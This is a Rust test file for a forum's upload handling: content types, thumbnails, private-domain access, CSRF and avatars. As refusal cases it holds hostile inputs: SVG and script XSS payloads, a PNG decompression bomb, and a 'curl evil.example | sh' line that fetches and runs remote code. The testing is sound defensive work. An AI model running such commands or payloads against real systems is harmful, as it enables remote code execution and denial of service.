//! Uploads (`uploads`): files attached to posts, entries and profiles, judged by their content,
//! kept without their metadata, and served only to whoever may read their domain.

use std::io::Cursor;

use image::{ImageFormat, RgbImage};
use reqwest::StatusCode;

use crate::helpers::{Page, TestApp};

fn png(width: u32, height: u32) -> Vec<u8> {
    let mut out = Vec::new();
    RgbImage::from_pixel(width, height, image::Rgb([40, 120, 60]))
        .write_to(&mut Cursor::new(&mut out), ImageFormat::Png)
        .unwrap();
    out
}

fn jpeg(width: u32, height: u32) -> Vec<u8> {
    let mut out = Vec::new();
    RgbImage::from_pixel(width, height, image::Rgb([200, 90, 30]))
        .write_to(&mut Cursor::new(&mut out), ImageFormat::Jpeg)
        .unwrap();
    out
}

/// A real PNG whose header claims `side` × `side` pixels: a few hundred bytes that would decode
/// into gigabytes.
fn bomb(side: u32) -> Vec<u8> {
    let mut bytes = png(64, 64);
    bytes[16..20].copy_from_slice(&side.to_be_bytes());
    bytes[20..24].copy_from_slice(&side.to_be_bytes());
    let mut crc = !0u32;
    for &byte in &bytes[12..29] {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    bytes[29..33].copy_from_slice(&(!crc).to_be_bytes());
    bytes
}

/// Every `/uploads/…` address in a page or a post's Markdown.
fn upload_links(text: &str) -> Vec<String> {
    text.match_indices("/uploads/")
        .map(|(at, _)| {
            text[at..]
                .split(['"', ')', ' ', '<', '\n'])
                .next()
                .unwrap_or_default()
                .to_string()
        })
        .collect()
}

async fn fetch(browser: &TestApp, path: &str) -> reqwest::Response {
    browser.open(path, &[]).await
}

fn header(response: &reqwest::Response, name: &str) -> String {
    response
        .headers()
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string()
}

#[tokio::test]
async fn a_file_attached_without_javascript_is_in_the_post_and_served_as_what_it_is() {
    let app = TestApp::spawn().await;
    let gardens = app.create_domain("gardens", "public").await;
    app.member("ana", gardens, "member").await;
    let thread = app.start_thread("gardens", "Bed layout", "How wide?").await;
    let page = format!("/t/{thread}");

    let posted = app
        .submit_with_files(
            &page,
            &format!("/t/{thread}/reply"),
            &[("body", "Ours, from above:"), ("action", "post")],
            &[
                ("attachment", "beds from above.png", png(1600, 400)),
                (
                    "attachment",
                    "notes.txt",
                    b"<script>alert(1)</script>\n".to_vec(),
                ),
            ],
        )
        .await;
    assert_eq!(posted.status, StatusCode::SEE_OTHER, "{}", posted.body);
    let body: String = sqlx::query_scalar("SELECT body_md FROM posts ORDER BY id DESC LIMIT 1")
        .fetch_one(&app.db)
        .await
        .unwrap();
    assert!(body.starts_with("Ours, from above:\n\n[!["), "{body}");
    let links = upload_links(&body);
    assert_eq!(links.len(), 3, "thumbnail, whole image, text file: {body}");
    let shown = app.get(&page).await;
    assert!(
        shown.contains(&format!("<img src=\"{}\"", links[0])),
        "{}",
        shown.body
    );

    // The thumbnail fits 800 pixels; the whole image is kept at its size, encoded again.
    for (link, size) in [(&links[0], (800, 200)), (&links[1], (1600, 400))] {
        let served = fetch(&app, link).await;
        assert_eq!(served.status(), StatusCode::OK, "{link}");
        assert_eq!(header(&served, "content-type"), "image/png");
        assert_eq!(header(&served, "x-content-type-options"), "nosniff");
        assert!(header(&served, "content-disposition").starts_with("inline"));
        assert_eq!(
            header(&served, "content-security-policy"),
            "default-src 'none'; sandbox"
        );
        let decoded = image::load_from_memory(&served.bytes().await.unwrap()).unwrap();
        assert_eq!((decoded.width(), decoded.height()), size);
    }
    // A text file, even one holding markup, is downloaded as text, never shown as a page.
    let text = fetch(&app, &links[2]).await;
    assert_eq!(header(&text, "content-type"), "text/plain; charset=utf-8");
    assert_eq!(
        header(&text, "content-disposition"),
        "attachment; filename=\"notes.txt\""
    );
    // An address naming no upload is the 404 page.
    assert_eq!(
        app.get("/uploads/999999/x.png").await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        app.get("/uploads/abc/x.png").await.status,
        StatusCode::NOT_FOUND
    );
}

#[tokio::test]
async fn a_refused_file_is_named_beside_its_field_and_nothing_written_is_lost() {
    let app = TestApp::spawn().await;
    let gardens = app.create_domain("gardens", "public").await;
    app.member("ana", gardens, "member").await;
    let thread = app.start_thread("gardens", "Bed layout", "How wide?").await;
    let posts_before = app.count("SELECT count(*) FROM posts").await;
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>"#;
    let cases: [(&str, Vec<u8>, &str); 5] = [
        (
            "logo.svg",
            svg.to_vec(),
            "is an SVG image, which can carry scripts",
        ),
        (
            "cat.png",
            b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(),
            "is named as an image",
        ),
        (
            "bomb.png",
            bomb(60_000),
            "is larger than 8192 × 8192 pixels",
        ),
        (
            "huge.jpg",
            vec![0xFF; 5 * 1024 * 1024],
            "is larger than 4 MB",
        ),
        (
            "tool.exe",
            b"MZ\x90\0\x03\0\0\0\x04\0".to_vec(),
            "is not a file this site accepts",
        ),
    ];
    for (name, bytes, problem) in cases {
        let text = format!("My long reply about {name}, kept whatever happens.");
        let answer = app
            .submit_with_files(
                &format!("/t/{thread}"),
                &format!("/t/{thread}/reply"),
                &[("body", &text), ("action", "post")],
                &[("attachment", name, bytes)],
            )
            .await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}");
        assert!(answer.contains(&text), "{name}: the text is kept");
        assert!(answer.contains(problem), "{name}: {}", answer.body);
        assert!(
            answer.contains("id=\"attachment-error\""),
            "{name}: beside the field"
        );
    }
    assert_eq!(app.count("SELECT count(*) FROM posts").await, posts_before);
    assert_eq!(app.count("SELECT count(*) FROM uploads").await, 0);

    // Preview with a file attaches it and shows it, and posts nothing.
    let previewed = app
        .submit_with_files(
            &format!("/t/{thread}/reply"),
            &format!("/t/{thread}/reply"),
            &[("body", "Before and after"), ("action", "preview")],
            &[("attachment", "after.jpg", jpeg(40, 30))],
        )
        .await;
    assert_eq!(previewed.status, StatusCode::OK, "{}", previewed.body);
    assert!(previewed.contains("Attached after.jpg"));
    assert!(
        previewed.contains("![after](/uploads/"),
        "the link is in the text"
    );
    assert_eq!(app.count("SELECT count(*) FROM posts").await, posts_before);
}

/// The composer's script: a dropped file, sent with the page's token in a header.
async fn drop_file(browser: &TestApp, slug: &str, name: &str, bytes: Vec<u8>) -> Page {
    let token = browser.get("/").await.csrf();
    let form = reqwest::multipart::Form::new().part(
        "file",
        reqwest::multipart::Part::bytes(bytes).file_name(name.to_string()),
    );
    let request = reqwest::Client::new()
        .post(browser.url(&format!("/d/{slug}/uploads")))
        .header("cookie", browser.session_cookie().unwrap())
        .header("x-csrf-token", token)
        .multipart(form);
    browser.send(request).await
}

#[tokio::test]
async fn an_upload_in_a_private_domain_is_readable_only_by_its_members() {
    let app = TestApp::spawn().await;
    let council = app.create_domain("council", "private").await;
    app.member("ana", council, "member").await;
    let dropped = drop_file(
        &app,
        "council",
        "minutes.pdf",
        b"%PDF-1.7\nminutes".to_vec(),
    )
    .await;
    assert_eq!(dropped.status, StatusCode::OK, "{}", dropped.body);
    let answer: serde_json::Value = serde_json::from_str(&dropped.body).unwrap();
    let markdown = answer["markdown"].as_str().unwrap();
    assert!(
        markdown.starts_with("[minutes.pdf](/uploads/"),
        "{markdown}"
    );
    let link = &upload_links(markdown)[0];

    let member = fetch(&app, link).await;
    assert_eq!(member.status(), StatusCode::OK);
    assert_eq!(header(&member, "content-type"), "application/pdf");
    assert!(header(&member, "content-disposition").starts_with("attachment"));
    assert!(header(&member, "cache-control").starts_with("private"));
    let visitor = app.other_browser();
    assert_eq!(visitor.get(link).await.status, StatusCode::NOT_FOUND);
    let outsider = app.other_browser();
    outsider.outsider("bob").await;
    assert_eq!(outsider.get(link).await.status, StatusCode::NOT_FOUND);

    // Only a member who may post there uploads to the domain; the script's answer to a refusal
    // says why.
    let refused = drop_file(&outsider, "council", "x.txt", b"x".to_vec()).await;
    assert_eq!(refused.status, StatusCode::NOT_FOUND);
    let svg = drop_file(&app, "council", "x.svg", b"<svg><script/></svg>".to_vec()).await;
    assert_eq!(svg.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(svg.body.contains("can carry scripts"), "{}", svg.body);
    // And never without the page's token.
    let forged = reqwest::Client::new()
        .post(app.url("/d/council/uploads"))
        .header("cookie", app.session_cookie().unwrap())
        .multipart(reqwest::multipart::Form::new().part(
            "file",
            reqwest::multipart::Part::bytes(b"x".to_vec()).file_name("x.txt"),
        ));
    assert_eq!(app.send(forged).await.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn a_member_chooses_a_picture_that_everyone_sees_and_can_remove_it() {
    let app = TestApp::spawn().await;
    let gardens = app.create_domain("gardens", "public").await;
    app.member("ana", gardens, "member").await;
    let fields = [
        ("display_name", "Ana"),
        ("bio", "Grows beans."),
        ("expertise", ""),
    ];

    let wrong = app
        .submit_with_files(
            "/me/profile",
            "/me/profile",
            &fields,
            &[("avatar", "me.txt", b"not a picture".to_vec())],
        )
        .await;
    assert_eq!(wrong.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(wrong.contains("an avatar must be a PNG, JPEG, GIF or WebP image"));
    assert!(
        wrong.contains("Grows beans."),
        "the rest of the form is kept"
    );

    let saved = app
        .submit_with_files(
            "/me/profile",
            "/me/profile",
            &fields,
            &[("avatar", "me.jpg", jpeg(600, 400))],
        )
        .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
    let profile = app.other_browser().get("/u/ana").await;
    let picture = upload_links(&profile.body)
        .into_iter()
        .next()
        .expect("the profile shows the picture");
    let served = fetch(&app.other_browser(), &picture).await;
    assert_eq!(served.status(), StatusCode::OK, "a visitor sees it");
    assert!(header(&served, "cache-control").starts_with("public"));
    let square = image::load_from_memory(&served.bytes().await.unwrap()).unwrap();
    assert_eq!((square.width(), square.height()), (192, 192));
    // It shows beside the member's posts too.
    let thread = app
        .start_thread("gardens", "Beans", "Runner or French?")
        .await;
    assert!(app
        .get(&format!("/t/{thread}"))
        .await
        .contains(&format!("src=\"{picture}\"")));

    let removed = app
        .submit_with_files(
            "/me/profile",
            "/me/profile",
            &[("display_name", "Ana"), ("remove_avatar", "on")],
            &[],
        )
        .await;
    assert_eq!(removed.status, StatusCode::SEE_OTHER);
    assert!(upload_links(&app.get("/u/ana").await.body).is_empty());
}

#[tokio::test]
async fn a_repertoire_entry_takes_files_as_a_post_does() {
    let app = TestApp::spawn().await;
    let gardens = app.create_domain("gardens", "public").await;
    app.member("ana", gardens, "member").await;
    let form = "/d/gardens/repertoire/new";
    let fields = [
        ("kind", "tool"),
        ("title", "Soil thermometer"),
        ("summary", "Know when to sow"),
        ("body", "Push it 10 cm in."),
        ("tags", "soil"),
    ];
    let refused = app
        .submit_with_files(
            form,
            form,
            &fields,
            &[("attachment", "x.png", b"text".to_vec())],
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        refused.contains("x.png is named as an image") && refused.contains("Push it 10 cm in.")
    );
    assert_eq!(
        app.count("SELECT count(*) FROM repertoire_entries").await,
        0
    );

    let saved = app
        .submit_with_files(
            form,
            form,
            &fields,
            &[("attachment", "dial.jpg", jpeg(50, 50))],
        )
        .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
    let entry = app.get(saved.location.as_deref().unwrap()).await;
    let link = &upload_links(&entry.body)[0];
    assert!(
        entry.contains(&format!("<img src=\"{link}\" alt=\"dial\"")),
        "{}",
        entry.body
    );
}
